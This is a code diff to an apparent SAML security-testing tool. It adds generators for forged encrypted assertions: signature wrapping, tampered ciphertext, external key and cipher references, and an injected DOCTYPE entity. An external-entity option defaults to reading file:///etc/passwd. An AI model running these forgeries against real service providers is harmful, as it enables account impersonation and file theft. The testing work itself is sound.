@@ -81,9 +81,12 @@ DIGEST_ALGS = {"sha1": NS["ds"] + "sha1", "sha256": NS["xenc"] + "sha256", "sha5
 # name -> (EncryptionMethod URI, xmlsec1 --session-key)
 ENCRYPT_ALGS = {
     "aes128-cbc": (NS["xenc"] + "aes128-cbc", "aes-128"),
+    "aes192-cbc": (NS["xenc"] + "aes192-cbc", "aes-192"),
     "aes256-cbc": (NS["xenc"] + "aes256-cbc", "aes-256"),
     "aes128-gcm": (XENC11 + "aes128-gcm", "aes-128"),
+    "aes192-gcm": (XENC11 + "aes192-gcm", "aes-192"),
     "aes256-gcm": (XENC11 + "aes256-gcm", "aes-256"),
+    "tripledes-cbc": (NS["xenc"] + "tripledes-cbc", "des-192"),
 }
 KEY_TRANSPORTS = {
     "rsa-oaep-mgf1p": NS["xenc"] + "rsa-oaep-mgf1p",
@@ -391,7 +394,16 @@ class Idp:
             sig.signed_info.reference.uri = uri
         return sig
 
-    def build(self, sign, encrypt_cert=None, name_id=None, before_sign=None, before_encrypt=None, reference_uri=None):
+    def build(
+        self,
+        sign,
+        encrypt_cert=None,
+        name_id=None,
+        before_sign=None,
+        before_encrypt=None,
+        reference_uri=None,
+        before_sign_xml=None,
+    ):
         """The signed (and maybe encrypted) response XML, as pysaml2's
         Entity._response would make it: the assertion is signed, then
         encrypted, then the response is signed."""
@@ -409,10 +421,12 @@ class Idp:
             xml = resp.get_xml_string_with_self_contained_assertion_within_encrypted_assertion(tag)
         else:
             xml = resp.to_string().decode("utf-8")
+        if before_sign_xml:
+            xml = before_sign_xml(xml)
         if sign_assertion:
             xml = self.server.sec.sign_statement(xml, class_name(saml.Assertion()), node_id=assertion_id)
         if before_encrypt:
-            xml = before_encrypt(xml)
+            xml = self_contained(before_encrypt(xml))
         if encrypt:
             xml = self.encrypt(xml, encrypt_cert)
         if sign in ("response", "both"):
@@ -436,8 +450,64 @@ class Idp:
         cert_pem = read_text(cert_path, "encryption certificate")
         if a.key_transport != "rsa-oaep":
             template = pre_encryption_part(msg_enc=msg_alg, key_enc=transport, encrypt_cert=cert_body(cert_pem))
-            return self.server.sec.encrypt_assertion(xml, cert_path, template, key_type=session_key)
-        return encrypt_rsa_oaep(xml, load_cert(cert_path), cert_body(cert_pem), msg_alg, session_key, a)
+            xml = self.server.sec.encrypt_assertion(xml, cert_path, template, key_type=session_key)
+        else:
+            xml = encrypt_rsa_oaep(xml, load_cert(cert_path), cert_body(cert_pem), msg_alg, session_key, a)
+        if a.encrypted_key_placement == "sibling":
+            root = parse_xml(xml)
+            keys_beside(root)
+            xml = to_xml(root)
+        return xml
+
+    def encrypt_bytes(self, plaintext, cert_path):
+        """An EncryptedData (element) of any bytes for the holder of
+        cert_path, made by xmlsec1 from pysaml2's template as `encrypt`
+        does: what an attacker sends, since the SP's certificate is public."""
+        a = self.args
+        if a.key_transport == "rsa-oaep":
+            die("attacks on the plaintext use --key-transport rsa-oaep-mgf1p or rsa-1_5")
+        msg_alg, session_key = ENCRYPT_ALGS[a.encrypt_alg]
+        template = pre_encryption_part(
+            msg_enc=msg_alg, key_enc=KEY_TRANSPORTS[a.key_transport], encrypt_cert=cert_body(read_text(cert_path, "certificate"))
+        )
+        with tempfile.TemporaryDirectory() as tmp:
+            data, tmpl = os.path.join(tmp, "plain.bin"), os.path.join(tmp, "template.xml")
+            with open(data, "wb") as f:
+                f.write(plaintext)
+            with open(tmpl, "w", encoding="utf-8") as f:
+                f.write(str(template))
+            command = [xmlsec_binary(), "--encrypt", "--pubkey-cert-pem", cert_path, "--session-key", session_key]
+            result = subprocess.run([*command, "--binary-data", data, tmpl], capture_output=True, check=False)
+        if result.returncode != 0:
+            die(f"xmlsec1 --encrypt failed: {result.stderr.decode(errors='replace')}")
+        return parse_xml(result.stdout)
+
+
+def self_contained(xml):
+    """The document with the assertion to encrypt declaring its own prefix
+    again, as pysaml2 makes it: lxml keeps one declaration, on the Response,
+    and the plaintext of an encrypted assertion is read on its own."""
+    root = parse_xml(xml)
+    inner = root.find(f"{SAML}EncryptedAssertion/{SAML}Assertion")
+    if inner is None or not inner.prefix:
+        return xml
+    tag = f"<{inner.prefix}:Assertion "
+    start = xml.index(tag, xml.index(f"{root.find(f'{SAML}EncryptedAssertion').prefix}:EncryptedAssertion")) + len(tag)
+    declaration = f'xmlns:{inner.prefix}="{NS["saml"]}"'
+    if declaration in xml[start : xml.index(">", start)]:
+        return xml
+    return f"{xml[:start]}{declaration} {xml[start:]}"
+
+
+def keys_beside(root):
+    """Moves each EncryptedKey out of its EncryptedData's KeyInfo to beside
+    the EncryptedData, named there by a RetrievalMethod (Shibboleth's shape)."""
+    for data in list(root.iter(f"{XENC}EncryptedData")):
+        info = data.find(f"{DS}KeyInfo")
+        for key in info.findall(f"{XENC}EncryptedKey"):
+            info.remove(key)
+            data.getparent().append(key)
+            etree.SubElement(info, f"{DS}RetrievalMethod", URI="#" + key.get("Id"), Type=NS["xenc"] + "EncryptedKey")
 
 
 def encrypt_rsa_oaep(xml, cert, cert_b64, msg_alg, session_key, a):
@@ -645,13 +715,16 @@ def cmd_attack(args):
         die(f"attack {kind} signs {' or '.join(allowed)}, not {sign}")
     if args.encrypt_cert and not spec.get("encrypt"):
         die(f"attack {kind} does not support --encrypt-cert")
-    if kind == "wrap-beside-encrypted" and not args.encrypt_cert:
-        die("attack wrap-beside-encrypted needs --encrypt-cert")
+    if spec.get("encrypt") == "required" and not args.encrypt_cert:
+        die(f"attack {kind} needs --encrypt-cert")
     if args.status != "success":
         die("attacks need --status success")
     if kind == "altered-byte" and args.encrypt_cert and sign == "response":
         die("altered-byte with --encrypt-cert needs the assertion signed (--sign assertion or both)")
     idp = Idp(args)
+    if kind in ENCRYPTED_ATTACKS:
+        emit(args, encrypted_attack(args, idp, kind, sign))
+        return
     evil = args.evil_name_id
     suffix = args.evil_suffix
     name = args.name_id
@@ -770,6 +843,100 @@ def cmd_attack(args):
     emit(args, xml)
 
 
+# Attacks on encryption (README.md): the response is left unsigned unless
+# noted, so that the SP's answer comes from the encrypted part.
+ENCRYPTED_ATTACKS = (
+    "tampered-ciphertext",
+    "tampered-key",
+    "two-encrypted",
+    "encrypted-in-advice",
+    "retrieval-external",
+    "cipher-reference",
+    "encrypted-doctype",
+    "encrypted-not-assertion",
+    "encrypted-undeclared-prefix",
+    "encrypted-wrap",
+    "encrypted-signature-moved",
+)
+EA = f"{SAML}EncryptedAssertion"
+
+
+def flip_cipher_value(root, where):
+    """Flips one bit in the middle of the CipherValue at `where`."""
+    value = root.find(where)
+    raw = bytearray(base64.b64decode(value.text))
+    raw[len(raw) // 2] ^= 1
+    value.text = base64.b64encode(bytes(raw)).decode("ascii")
+
+
+def encrypted_attack(args, idp, kind, sign):
+    """The XML of an attack on an encrypted assertion (ENCRYPTED_ATTACKS)."""
+    cert, evil = args.encrypt_cert, args.evil_name_id
+    encrypted = lambda **kw: parse_xml(idp.build("assertion", encrypt_cert=cert, **kw))
+    root = None
+    if kind in ("tampered-ciphertext", "tampered-key"):
+        root = encrypted()
+        holder = "EncryptedData" if kind == "tampered-ciphertext" else "EncryptedKey"
+        flip_cipher_value(root, f".//{XENC}{holder}/{XENC}CipherData/{XENC}CipherValue")
+    elif kind == "two-encrypted":
+        root = encrypted()
+        root.find(EA).addnext(encrypted(name_id=evil).find(EA))
+    elif kind == "encrypted-in-advice":
+        # The IdP signs a plain assertion whose Advice holds an encrypted one.
+        inner = encrypted(name_id=evil).find(EA)
+
+        def advice(xml):
+            doc = parse_xml(xml)
+            holder = etree.Element(f"{SAML}Advice")
+            holder.append(inner)
+            doc.find(f"{SAML}Assertion/{SAML}Conditions").addnext(holder)
+            return to_xml(doc)
+
+        return idp.build(sign, before_sign_xml=advice)
+    elif kind == "retrieval-external":
+        root = encrypted()
+        keys_beside(root)
+        root.find(f".//{DS}RetrievalMethod").set("URI", args.entity_url + "key")
+    elif kind == "cipher-reference":
+        root = encrypted()
+        data = root.find(f".//{XENC}EncryptedData/{XENC}CipherData")
+        for child in list(data):
+            data.remove(child)
+        etree.SubElement(data, f"{XENC}CipherReference", URI=args.entity_url + "cipher")
+    elif kind in ("encrypted-wrap", "encrypted-signature-moved"):
+        # Rearranged inside the EncryptedAssertion, then encrypted by xmlsec1.
+        def rearrange(xml):
+            doc = parse_xml(xml)
+            signed = doc.find(f"{EA}/{SAML}Assertion")
+            forged = evil_copy(signed, evil)
+            signed.addprevious(forged)
+            if kind == "encrypted-wrap":
+                forged.append(signed)
+            else:
+                insert_after_issuer(forged, take_signature(signed))
+                signed.getparent().remove(signed)
+            return to_xml(doc)
+
+        root = parse_xml(idp.build("assertion", encrypt_cert=cert, before_encrypt=rearrange))
+    else:
+        # The plaintext is chosen: bytes encrypted to the SP's certificate.
+        signed = parse_xml(idp.build("assertion"))
+        text = etree.tostring(assertions(signed)[0]).decode("utf-8")
+        if kind == "encrypted-doctype":
+            plaintext = f'<!DOCTYPE saml:Assertion [<!ENTITY x "{args.evil_suffix}">]>{text}'
+        elif kind == "encrypted-not-assertion":
+            plaintext = to_xml(signed)
+        else:  # encrypted-undeclared-prefix: saml: declared only on the Response
+            plaintext = text.replace(f' xmlns:saml="{NS["saml"]}"', "", 1)
+        root = encrypted()
+        holder = root.find(EA)
+        for child in list(holder):
+            holder.remove(child)
+        holder.append(idp.encrypt_bytes(plaintext.encode("utf-8"), cert))
+    out = to_xml(root)
+    return idp.sign_response(out) if sign == "both" else out
+
+
 ASSERTION_XSW = (
     "wrap-assertion-before",
     "wrap-assertion-after",
@@ -792,7 +959,7 @@ ATTACKS = {
     **{k: {"sign": ("assertion",)} for k in ASSERTION_XSW},
     **{k: {"sign": ("response",)} for k in RESPONSE_XSW},
     "wrap-in-advice": {"sign": ("assertion", "both"), "encrypt": True},
-    "wrap-beside-encrypted": {"sign": ("assertion",), "encrypt": True},
+    "wrap-beside-encrypted": {"sign": ("assertion",), "encrypt": "required"},
     "two-assertions": {"sign": ("assertion", "both")},
     "comment-in-nameid": {"sign": ANY_SIGN, "encrypt": True},
     "stripped-signature": {"sign": ANY_SIGN, "encrypt": True},
@@ -802,6 +969,8 @@ ATTACKS = {
     "external-entity": {"sign": ANY_SIGN},
     "sha1": {"sign": ANY_SIGN, "encrypt": True},
     "empty-reference-uri": {"sign": ("assertion",), "encrypt": True},
+    **{k: {"sign": ("assertion", "both") if k in ("two-encrypted", "encrypted-in-advice") else ("assertion",),
+           "encrypt": "required"} for k in ENCRYPTED_ATTACKS},
 }
 
 
@@ -1040,6 +1209,12 @@ def response_options(p):
     p.add_argument("--key-transport", choices=KEY_TRANSPORTS, default="rsa-oaep-mgf1p")
     p.add_argument("--oaep-digest", choices=OAEP_HASHES, default="sha256", help="for --key-transport rsa-oaep")
     p.add_argument("--oaep-mgf", choices=OAEP_HASHES, default="sha1", help="for --key-transport rsa-oaep")
+    p.add_argument(
+        "--encrypted-key-placement",
+        choices=("inside", "sibling"),
+        default="inside",
+        help="the EncryptedKey in the EncryptedData's KeyInfo, or beside it named by a RetrievalMethod",
+    )
     p.add_argument("--raw", action="store_true", help="print the XML instead of base64")
 
 
@@ -1094,7 +1269,9 @@ def parser():
     p.add_argument("--other-key", help="for other-key (default: a fresh key)")
     p.add_argument("--other-cert")
     p.add_argument("--entity-file", default="file:///etc/passwd", help="for external-entity")
-    p.add_argument("--entity-url", default="http://127.0.0.1:9/", help="for external-entity")
+    p.add_argument(
+        "--entity-url", default="http://127.0.0.1:9/", help="for external-entity, retrieval-external, cipher-reference"
+    )
     p.set_defaults(func=cmd_attack)
 
     p = sub.add_parser("logout-request", help="an IdP-initiated LogoutRequest (JSON)")
